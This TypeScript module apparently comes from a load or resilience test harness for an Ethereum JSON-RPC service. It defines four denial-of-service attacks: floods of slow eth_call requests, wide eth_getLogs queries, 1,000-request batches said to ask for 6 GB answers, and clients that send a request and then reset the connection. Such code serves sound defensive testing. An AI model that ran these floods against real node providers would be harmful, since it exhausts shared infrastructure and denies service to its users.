/** Calls that are valid and expensive for the service: nodes that answer late, wide log queries, and callers that leave at once. */

import { type Attack, hosts } from '../attack.ts';
import { batch, flood, many, request } from '../many.ts';
import { FULL_BLOCK, SLOW_CALL, TOO_MANY_LOGS, WIDE_LOGS } from '../node-answers.ts';
import { opened, pause, post } from '../raw.ts';

export const slowAnswers: Attack = {
  name: 'slow upstream answers',
  run(target, seen, signal) {
    const body = request('eth_call', SLOW_CALL);
    return flood(500, { target, seen, signal }, { host: hosts.node, body: () => body });
  },
};

export const wideLogs: Attack = {
  name: 'wide eth_getLogs',
  run(target, seen, signal) {
    const bodies = [request('eth_getLogs', WIDE_LOGS), request('eth_getLogs', TOO_MANY_LOGS)];
    let sent = 0;
    return flood(64, { target, seen, signal }, { host: hosts.node, body: () => bodies[sent++ % 2]! });
  },
};

/** Each batch asks for answers of 6 GB. */
export const wideBatches: Attack = {
  name: 'batches of wide eth_getLogs',
  run(target, seen, signal) {
    const body = batch(1_000, 'eth_getLogs', WIDE_LOGS);
    return flood(8, { target, seen, signal }, { host: hosts.node, body: () => body });
  },
};

export const leavers: Attack = {
  name: 'callers that leave',
  run(target, seen, signal) {
    const bytes = post(target, hosts.node, request('eth_getBlockByNumber', FULL_BLOCK));
    return many(64, signal, async () => {
      const socket = await opened(target, seen, signal);
      if (socket === undefined) return pause(100, signal);
      socket.on('error', () => {});
      socket.write(bytes);
      await pause(5, signal);
      socket.resetAndDestroy();
    });
  },
};
